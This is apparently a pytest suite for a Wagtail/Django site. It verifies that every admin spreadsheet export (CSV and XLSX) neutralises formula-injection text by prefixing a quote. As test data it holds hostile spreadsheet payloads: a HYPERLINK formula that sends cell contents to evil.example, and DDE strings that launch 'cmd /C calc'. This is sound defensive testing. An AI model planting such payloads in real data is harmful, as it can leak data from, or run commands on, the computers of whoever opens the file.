"""Every spreadsheet staff download defuses text a spreadsheet would run as a formula (issue 9, finding 3).

A signed-in superuser downloads each export from the admin as a person would; cells whose text starts
with =, +, -, @, a tab or a carriage return come back with a leading single quote, other text and
numbers as they were. A last test walks the admin's URLs so that a new export without the rule fails.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from django.urls import URLResolver, get_resolver, resolve
from django.utils import timezone
from django.utils.functional import lazy

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query

from hub.spreadsheets import SafeSpreadsheetExportMixin, csv_response, csv_writer, safe_cell
from insights.models import SearchTermDaily
from members.models import MemberProfile
from tests.insights.conftest import client_for
from tests.members.conftest import make_member, sign_in

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# One hostile text per dangerous first character.
HOSTILE = {
    "=": FORMULA,
    "+": "+44 20 7946 0000",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=2+2",
}


# The rule -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_text_starting_with_a_formula_character_gets_a_leading_quote(prefix):
    assert safe_cell(HOSTILE[prefix]) == "'" + HOSTILE[prefix]
    assert safe_cell(prefix) == "'" + prefix


@pytest.mark.parametrize(
    "value",
    ["Ada Lovelace", "", "a=b", "x-1", "'already quoted", " =leading space is not a formula", "café"],
)
def test_other_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [
        -5,
        0,
        7,
        -2.5,
        Decimal("-1.50"),
        True,
        None,
        datetime.date(2025, 1, 2),
        datetime.datetime(2025, 1, 2, 3, 4, tzinfo=datetime.UTC),
        datetime.time(9, 30),
    ],
)
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    result = safe_cell(value)
    assert result == value and type(result) is type(value)


def test_other_objects_are_checked_as_the_text_a_spreadsheet_would_get():
    class Titled:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Titled()) == "'=1+1"
    assert safe_cell(lazy(lambda: "@lazy", str)()) == "'@lazy"
    assert safe_cell(["=a", "b"]) == "['=a', 'b']"  # a list is written as its text, which starts with "["


def test_the_csv_writer_and_response_apply_the_rule_to_every_cell():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([["Name", "Amount"], [FORMULA, -5], ["Plain", Decimal("-1.5")]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["Name", "Amount"],
        ["'" + FORMULA, "-5"],
        ["Plain", "-1.5"],
    ]
    response = csv_response([["=heading"], ["+cell"]], "report.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report.csv"'
    assert response.content.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")))) == [["'=heading"], ["'+cell"]]


# Downloads from the admin ---------------------------------------------------------------------------


@pytest.fixture
def superuser_client():
    """A superuser signed in through the site's own sign-in form (MFA is off in the test settings)."""
    boss = make_member("boss@example.org")
    boss.is_staff = boss.is_superuser = True
    boss.save()
    client = client_for()
    sign_in(client, boss)
    return client


def download(client, url: str, export_format: str):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(client, url: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(download(client, url, "csv").decode("utf-8-sig"))))


def xlsx_rows(client, url: str) -> list[dict[str, object]]:
    """Each row as {heading: (value, openpyxl data type)}."""
    sheet = load_workbook(io.BytesIO(download(client, url, "xlsx")), read_only=True).active
    rows = list(sheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    return [
        {heading: (cell.value, cell.data_type) for heading, cell in zip(headings, row, strict=True)}
        for row in rows[1:]
    ]


@pytest.fixture
def hostile_members():
    """One member per dangerous character, in name, organisation and job role; and an ordinary one."""
    for number, prefix in enumerate(PREFIXES):
        profile = make_member(f"hostile{number}@example.org").member_profile
        profile.full_name = profile.organisation_name = profile.job_role = HOSTILE[prefix]
        profile.save()
    ordinary = make_member("ordinary@example.org").member_profile
    ordinary.full_name, ordinary.organisation_name, ordinary.job_role = "Ada Lovelace", "Analytical Ltd", "Engineer"
    ordinary.save()


def test_members_csv_from_the_admin_defuses_names_organisations_and_job_roles(superuser_client, hostile_members):
    rows = csv_rows(superuser_client, "/admin/member-profiles/")
    assert len(rows) == MemberProfile.objects.count()
    by_email = {row["Email"]: row for row in rows}
    for number, prefix in enumerate(PREFIXES):
        row = by_email[f"hostile{number}@example.org"]
        for heading in ("Full name", "Organisation", "Job role"):
            assert row[heading] == "'" + HOSTILE[prefix], (heading, prefix)
    ordinary = by_email["ordinary@example.org"]
    assert (ordinary["Full name"], ordinary["Organisation"], ordinary["Job role"]) == (
        "Ada Lovelace",
        "Analytical Ltd",
        "Engineer",
    )
    assert not any(cell.startswith(tuple(PREFIXES)) for row in rows for cell in row.values())


def test_members_xlsx_from_the_admin_defuses_the_same_cells_and_keeps_dates(superuser_client, hostile_members):
    rows = {row["Email"][0]: row for row in xlsx_rows(superuser_client, "/admin/member-profiles/")}
    for number, prefix in enumerate(PREFIXES):
        row = rows[f"hostile{number}@example.org"]
        expected = ("'" + HOSTILE[prefix]).replace("\r", "\n")  # XML reads a carriage return as a line feed
        for heading in ("Full name", "Organisation", "Job role"):
            assert row[heading] == (expected, "s"), (heading, prefix)
    ordinary = rows["ordinary@example.org"]
    assert ordinary["Full name"] == ("Ada Lovelace", "s")
    assert isinstance(ordinary["Joined"][0], datetime.datetime), "dates stay dates"


def test_the_members_export_view_keeps_negative_numbers_as_numbers():
    view = resolve("/admin/member-profiles/").func.view_class()
    for export_format in ("csv", "xlsx"):
        for number in (-5, Decimal("-1.5"), -0.25):
            assert view.preprocess_field_value("amount", number, export_format) == number
        assert view.preprocess_field_value("name", "-5", export_format) == "'-5", "text that looks like a number"


def test_search_terms_report_defuses_terms_typed_by_the_public(superuser_client):
    """Wagtail's "Search terms" report lists what the public typed into the search box (search.views records
    every search with Query.get(...).add_hit()): the site's hook serves it with the same rule."""
    Query.objects.all().delete()
    for prefix in PREFIXES:
        Query.get(HOSTILE[prefix]).add_hit()
    Query.get("social capital").add_hit()
    url = "/admin/searchpicks/reports/search-terms/"
    assert "social capital" in superuser_client.get(url).content.decode(), "the report itself works"
    rows = csv_rows(superuser_client, url)
    terms = {row["Search term(s)"]: row["Views"] for row in rows}
    expected = {"'" + query.query_string for query in Query.objects.exclude(query_string="social capital")}
    assert len(expected) == len(PREFIXES)
    assert set(terms) == expected | {"social capital"}
    assert set(terms.values()) == {"1"}, "numbers are left alone"
    for row in xlsx_rows(superuser_client, url):
        value, data_type = row["Search term(s)"]
        assert value == "social capital" or value.startswith("'"), value
        assert row["Views"] == (1, "n")


def test_redirects_listing_defuses_its_targets(superuser_client):
    Redirect.objects.create(old_path="/old-report", redirect_link=FORMULA)
    Redirect.objects.create(old_path="/plain", redirect_link="https://example.org/new")
    assert "/old-report" in superuser_client.get("/admin/redirects/").content.decode(), "the listing itself works"
    rows = {row["From"]: row for row in csv_rows(superuser_client, "/admin/redirects/")}
    assert rows["/old-report"]["To"] == "'" + FORMULA
    assert rows["/plain"]["To"] == "https://example.org/new"


def test_insight_csv_defuses_every_dangerous_first_character(superuser_client):
    """The insight downloads use the shared writer (their own copy of the rule is gone)."""
    SearchTermDaily.objects.all().delete()
    today = timezone.localdate()
    for prefix in PREFIXES:
        SearchTermDaily.objects.create(term=HOSTILE[prefix], day=today, searches=3, no_results=2)
    SearchTermDaily.objects.create(term="plain", day=today, searches=3, no_results=2)
    response = superuser_client.get("/admin/insights/csv/searches-without-results/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row[0] for row in rows[1:]} == {"'" + HOSTILE[prefix] for prefix in PREFIXES} | {"plain"}
    assert all(row[1:] == ["2", "3"] for row in rows[1:]), "no results, all searches: numbers as they were"


# Every export in the admin ----------------------------------------------------------------------------

# Every export, Wagtail's core reports included (hub/admin_reports.py serves them ahead of the admin).
WAGTAIL_CORE_REPORTS: set[str] = set()


def _patterns(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern


def _exports(view) -> bool:
    view_class = getattr(view, "view_class", None)
    if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
        return False
    return bool(getattr(view, "view_initkwargs", {}).get("list_export", view_class.list_export))


def test_every_admin_url_that_exports_a_spreadsheet_uses_the_rule():
    """Walks the whole URLconf: a view with SpreadsheetExportMixin and columns to export must resolve, at its
    address, to a view with SafeSpreadsheetExportMixin (a hook's view that serves the address counts)."""
    unsafe, exporting = set(), set()
    for route, pattern in _patterns(get_resolver().url_patterns):
        if not _exports(pattern.callback):
            continue
        assert "<" not in route and "^" not in route, f"{route}: an export with a parameter; check it by hand"
        url = "/" + route
        exporting.add(url)
        served_by = resolve(url).func.view_class
        if not issubclass(served_by, SafeSpreadsheetExportMixin):
            unsafe.add(url)
    assert unsafe == WAGTAIL_CORE_REPORTS
    assert {"/admin/member-profiles/", "/admin/searchpicks/reports/search-terms/", "/admin/redirects/"} <= exporting


def test_site_history_and_locked_pages_reports_defuse_titles_editors_typed(superuser_client):
    """Wagtail's core reports (hub/admin_reports.py): a page titled like a formula comes back prefixed."""
    from wagtail.models import Page

    page = Page.objects.get(url_path="/home/about/").specific
    page.title = '=HYPERLINK("http://evil.example/","About")'
    page.locked, page.locked_at, page.locked_by = True, timezone.now(), None
    page.save_revision(log_action=True).publish()
    page.save()
    for url in ("/admin/reports/locked/", "/admin/reports/site-history/"):
        cells = [cell for row in csv_rows(superuser_client, url) for cell in row.values() if "HYPERLINK" in cell]
        assert cells and all(cell.startswith("'=") for cell in cells), (url, cells)
